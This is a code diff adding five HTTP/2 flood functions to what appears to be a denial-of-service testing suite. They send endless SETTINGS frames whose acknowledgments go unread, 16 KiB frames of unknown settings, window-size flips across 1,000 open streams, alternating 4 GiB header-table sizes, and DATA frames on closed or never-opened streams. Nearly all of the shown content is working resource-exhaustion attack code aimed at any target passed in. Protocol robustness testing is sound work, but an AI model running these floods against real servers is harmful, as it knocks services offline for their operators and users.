@@ -4,7 +4,7 @@ import struct
 import time
 
 from attack import attack
-from clients import SERVICE, frame_of, heartbeat
+from clients import SERVICE, frame_of, heartbeat, heartbeat_message
 from flood import Flood
 import wire
 
@@ -97,6 +97,34 @@ def settings_flood(target, outcome):
 
 
 @attack()
+def settings_unread(target, outcome):
+    """SETTINGS frames without a value on four connections whose acknowledgments nobody reads"""
+    Flood(target, wire.prelude(), lambda: wire.blocks_of(wire.settings()), 4, reads=False).run(outcome)
+
+
+@attack()
+def settings_unknown(target, outcome):
+    """SETTINGS frames of 16 KiB, of settings that nobody knows"""
+    frame_flood(target, outcome, wire.frame(wire.SETTINGS, 0, 0, struct.pack(">HI", 0xfafa, 1) * 2730))
+
+
+@attack()
+def window_size_flips(target, outcome):
+    """SETTINGS frames that change the windows of 1,000 joined streams, each time of all of them"""
+    streams = b"".join(wire.call(stream, frame_of(heartbeat("flips-%d" % stream)), ends=False) for stream in range(3, 2003, 2))
+    frame_flood(target, outcome, wire.settings({4: 0}) + wire.settings({4: 65535}), begin=wire.prelude(SERVICE + "Connect") + streams)
+
+
+@attack()
+def table_size_claims(target, outcome):
+    """calls between SETTINGS that allow a table of 4 GiB for the answers' headers, and none"""
+    sizes = wire.settings({1: 0xffffffff}), wire.settings({1: 0})
+    body = heartbeat_message("tabler")
+    Flood(target, wire.prelude(SERVICE + "Heartbeat"), lambda: wire.blocks_of_calls(
+        lambda stream: sizes[stream // 2 % 2] + wire.call(stream, body))).run(outcome)
+
+
+@attack()
 def settings_acknowledged(target, outcome):
     """acknowledgments of SETTINGS and of PINGs that nobody sent"""
     frame_flood(target, outcome, wire.frame(wire.SETTINGS, wire.ACK, 0) + wire.frame(wire.PING, wire.ACK, 0, bytes(8)))
@@ -107,6 +135,14 @@ def priorities(target, outcome):
     """PRIORITY frames of streams that were never opened"""
     frames = b"".join(wire.frame(wire.PRIORITY, 0, stream, struct.pack(">IB", 0, 15)) for stream in range(101, 2101, 2))
     frame_flood(target, outcome, frames)
+
+
+@attack()
+def data_of_no_stream(target, outcome):
+    """DATA frames of 16 KiB on a stream that is over, and on one that never was"""
+    data = bytes(16384)
+    frame_flood(target, outcome, wire.frame(wire.DATA, 0, 1, data) + wire.frame(wire.DATA, 0, 99999, data),
+                begin=wire.prelude(SERVICE + "Connect"))
 
 
 @attack()
